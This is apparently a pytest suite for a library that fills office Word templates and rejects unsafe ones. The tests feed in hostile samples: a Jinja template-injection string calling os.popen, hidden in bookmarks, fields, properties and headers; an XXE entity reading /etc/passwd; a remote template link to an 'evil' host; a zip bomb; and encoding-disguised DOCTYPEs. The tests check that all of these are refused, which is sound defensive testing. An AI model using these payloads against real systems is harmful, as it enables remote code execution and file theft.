"""An office's own template: filled when it is sound, refused with the placeholder and its paragraph when not."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import TemplateSyntaxError

from papers.blank import blank
from papers.braces import Braces
from papers.document import document
from papers.model import Letterhead, Paper, Section
from papers.opened import Refused, looked_through
from papers.template import ASKED, BrokenTemplate, check

PAPER = Paper(
    "weekly", "BÁO CÁO", "Về một việc", date(2026, 11, 27), ("Mở đầu",), (Section("Mục", ("Lời",)),), ("Hết",)
)
KINDS = ("weekly", "dossier", "letter", "yearly", "publication")


def template(*lines: str) -> bytes:
    made = Document()
    for line in lines:
        made.add_paragraph(line)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def repacked(change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
    """Our own template with its parts changed (None: left out) and further parts."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(blank("weekly"))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            body = change(name, old.read(name))
            if body is not None:
                new.writestr(name, body)
        for name, body in more.items():
            new.writestr(name.replace("__", "/"), body)
    return out.getvalue()


@pytest.mark.parametrize("kind", KINDS)
def test_our_own_templates_are_sound(kind: str) -> None:
    assert check(blank(kind), "a.docx") == ()


def test_an_edited_template_is_filled() -> None:
    mine = template(
        "Của chúng tôi: {{ about }}",
        "{%p for s in sections %}",
        "{{ s.title }}",
        "{%p endfor %}",
        "{{ signer }}",
    )
    data = document(PAPER, Letterhead(signer="Mẫu"), mine, "mine.docx")
    assert [p.text for p in Document(io.BytesIO(data)).paragraphs] == [
        "Của chúng tôi: Về một việc",
        "I. Mục",
        "Mẫu",
    ]


@pytest.mark.parametrize(
    ("lines", "where", "placeholder"),
    [
        (("x", "{{ abuot }}"), "đoạn 2", "{{ abuot }}"),
        (("{{ about",), "đoạn 1", "{{"),
        (("{{ about | upper }}",), "đoạn 1", "{{ about | upper }}"),
        (("{{ ''.__class__ }}",), "đoạn 1", "{{ ''.__class__ }}"),
        (("{{ about.__class__ }}",), "đoạn 1", "{{ about.__class__ }}"),
        (
            ("{%p for line in openings %}", "{{ line }}", "{%p endfor %}"),
            "đoạn 1",
            "{%p for line in openings %}",
        ),
        (("{%p for line in opening %}", "{{ line }}"), "đoạn 1", "{% for … %}"),
        (("{{ line }}", "{%p endfor %}"), "đoạn 2", "{%p endfor %}"),
        (("{%p for s in sections %}", "{{ s.headng }}", "{%p endfor %}"), "đoạn 2", "{{ s.headng }}"),
        (("{%p include 'x' %}",), "đoạn 1", "{%p include 'x' %}"),
    ],
)
def test_a_broken_template_says_which_placeholder_and_where(
    lines: tuple[str, ...], where: str, placeholder: str
) -> None:
    faults = check(template(*lines), "a.docx")
    assert any(f.where.startswith(where) and f.placeholder == placeholder for f in faults), faults
    with pytest.raises(BrokenTemplate):
        document(PAPER, Letterhead(), template(*lines), "a.docx")


RUNS = "{{ cycler.__init__.__globals__.os.popen('echo ran > ran').read() }}"


@pytest.mark.parametrize(
    ("part", "old", "new", "where"),
    [
        (
            "word/document.xml",
            "<w:body>",
            f'<w:body><w:p><w:bookmarkStart w:id="9" w:name="{RUNS}"/><w:bookmarkEnd w:id="9"/></w:p>',
            "chỗ không thấy khi đọc (bookmarkStart)",
        ),
        (
            "word/document.xml",
            "<w:body>",
            f"<w:body><w:p><w:r><w:instrText>{RUNS}</w:instrText></w:r></w:p>",
            "chỗ không thấy khi đọc (instrText)",
        ),
        ("docProps/core.xml", "{{ about }}", RUNS, "thuộc tính tệp title"),
        ("word/header1.xml", 'w:instr="PAGE"', f'w:instr="{RUNS}"', "đầu trang, chỗ không thấy"),
    ],
    ids=["attribute", "field", "property", "header"],
)
def test_braces_that_no_reader_sees_never_run(
    part: str, old: str, new: str, where: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    mine = repacked(lambda n, b: b.replace(old.encode(), new.encode(), 1) if n == part else b)
    assert mine != repacked(lambda n, b: b)
    with pytest.raises(BrokenTemplate) as refused:
        document(PAPER, Letterhead(), mine, "a.docx")
    assert any(fault.where.startswith(where) for fault in refused.value.faults), refused.value.faults
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    "words",
    [
        RUNS,
        "{{ a.tpl }}",
        "{{ a() }}",
        "{{ a|upper }}",
        "{{ a[0] }}",
        "{{ 1 }}",
        "{% set a = b %}",
        "{% if a == b %}{% endif %}",
    ],
)
def test_only_names_are_ever_compiled(words: str) -> None:
    with pytest.raises(TemplateSyntaxError):
        Braces(ASKED).from_string(words)


@pytest.mark.parametrize(
    ("first", "second", "sound"),
    [
        ("{% for line in opening %}", "{{ line }}{% endfor %}", False),
        ("{%p for line in opening %}", "{{ line }}{%p endfor %}", False),
        ("{%tc for line in opening %}", "{%tc endfor %}", True),
        ("{% for line in opening %}{{ line }}{% endfor %}", "x", True),
    ],
)
def test_a_loop_closes_where_it_was_opened(first: str, second: str, sound: bool) -> None:
    made = Document()
    row = made.add_table(rows=1, cols=2).rows[0]
    row.cells[0].text, row.cells[1].text = first, second
    out = io.BytesIO()
    made.save(out)
    faults = check(out.getvalue(), "a.docx")
    assert not faults if sound else [f.en for f in faults if f.en.startswith("must close where")], faults
    if sound:
        document(replace(PAPER, opening=("Một", "Hai")), Letterhead(), out.getvalue(), "a.docx")


def test_a_loop_that_opens_before_a_table_and_closes_in_it_is_a_fault() -> None:
    made = Document()
    made.add_paragraph("{% for line in opening %}")
    made.add_table(rows=1, cols=1).rows[0].cells[0].text = "{{ line }}{% endfor %}"
    out = io.BytesIO()
    made.save(out)
    assert [f.placeholder for f in check(out.getvalue(), "a.docx")] == ["{% endfor %}"]


def _xxe(name: str, body: bytes) -> bytes:
    head = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return body.replace(b"?>", b"?>" + head, 1) if name == "word/document.xml" else body


def _outside(name: str, body: bytes) -> bytes:
    far = b'<Relationship Id="z" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
    return (
        body.replace(b"</Relationships>", far + b"</Relationships>")
        if name.endswith("document.xml.rels")
        else body
    )


def _related(more: str) -> bytes:
    """Our own template with its relationships written anew, `more` with them."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"

    def change(name: str, body: bytes) -> bytes:
        if not name.endswith("document.xml.rels"):
            return body
        head = f'<x:Relationships xmlns:x="{space}" xmlns="{space}">'
        inner = (
            body.decode().partition("<Relationships")[2].partition(">")[2].partition("</Relationships>")[0]
        )
        return f"{head}{inner}{more}</x:Relationships>".encode()

    return repacked(change)


LINK = '<x:Relationship Id="h" Type="http://x/hyperlink" Target="http://shop.vn/" TargetMode="External"/>'


@pytest.mark.parametrize(
    "far",
    [
        f'{LINK}<x:Relationship Id="z" Type="http://x/attachedTemplate" Target="http://evil/t" TargetMode="External"/>',
        '<Relationship Id="z" Type="http://x/image" Target="http://evil/hyperlink" TargetMode="External"/>',
        '<Relationship Id="z" Type="http://x/image" Target="http://evil/" TargetMode = "External"/>',
        '<Relationship Id="z" Type="http://x/image" Target="http://evil/" TargetMode="&#69;xternal"/>',
    ],
    ids=["prefixed", "named-hyperlink", "spaces", "written-as-number"],
)
def test_what_is_fetched_from_elsewhere_is_refused_however_it_is_written(far: str) -> None:
    with pytest.raises(Refused, match="elsewhere"):
        looked_through(_related(far), "a.docx", "word/document.xml")
    looked_through(_related(LINK), "a.docx", "word/document.xml")


@pytest.mark.parametrize(
    ("more", "why"),
    [
        ({"word__styles.XML": b'<!DOCTYPE x [<!ENTITY e "x">]><x/>'}, "DOCTYPE"),
        ({"word__other.bin": b'\xef\xbb\xbf \n<!DOCTYPE x [<!ENTITY e "x">]><x/>'}, "DOCTYPE"),
        ({"word__x.xml": "<?xml version='1.0' encoding='cp037'?><x/>".encode("cp037")}, "no XML in UTF"),
        (
            {"word__x.xml": b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE x+AD4APA-x/+AD4-"},
            "no XML in UTF",
        ),
        ({"word___rels__x.RELS": b"<Relationships"}, "no XML"),
    ],
    ids=["capitals", "other-name", "ebcdic", "utf-7", "broken"],
)
def test_a_document_type_is_found_by_what_a_part_holds(more: dict[str, bytes], why: str) -> None:
    with pytest.raises(Refused, match=why):
        looked_through(repacked(lambda n, b: b, **more), "a.docx", "word/document.xml")


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"no zip", "cannot be opened"),
        (b"", "cannot be opened"),
        (repacked(lambda n, b: b)[:2000], "cannot be opened"),
        (repacked(lambda n, b: None if n == "word/document.xml" else b), "is missing"),
        (repacked(lambda n, b: b, word__bomb=b"\0" * 60_000_000), "unpacks to far too much"),
        (repacked(lambda n, b: b, word__vbaProject=b"x"), "macro"),
        (repacked(_xxe), "DOCTYPE"),
        (
            repacked(lambda n, b: _xxe(n, b).decode().encode("utf-16") if n == "word/document.xml" else b),
            "DOCTYPE",
        ),
        (repacked(_outside), "elsewhere"),
    ],
    ids=["no-zip", "empty", "cut", "other-kind", "bomb", "macro", "xxe", "xxe-utf-16", "fetched"],
)
def test_a_harmful_file_is_refused(data: bytes, why: str) -> None:
    with pytest.raises(Refused, match=why):
        check(data, "a.docx")


@given(st.binary(max_size=400))
@settings(max_examples=200, deadline=None)
def test_bytes_are_refused_or_taken_and_nothing_else(data: bytes) -> None:
    with pytest.raises(Refused):
        looked_through(data, "a", "word/document.xml")


TOKENS = (
    "{{",
    "}}",
    "{%p ",
    "%}",
    "for ",
    "s ",
    "in ",
    "sections",
    "endfor",
    "if ",
    "about",
    ".title",
    " ",
    "x",
    "\n",
)


@given(st.lists(st.lists(st.sampled_from(TOKENS), max_size=8).map("".join), max_size=6))
@settings(max_examples=150, deadline=None)
def test_what_passes_the_check_can_be_filled(lines: list[str]) -> None:
    mine = template(*lines)
    if not check(mine, "a.docx"):
        document(PAPER, Letterhead(), mine, "a.docx")
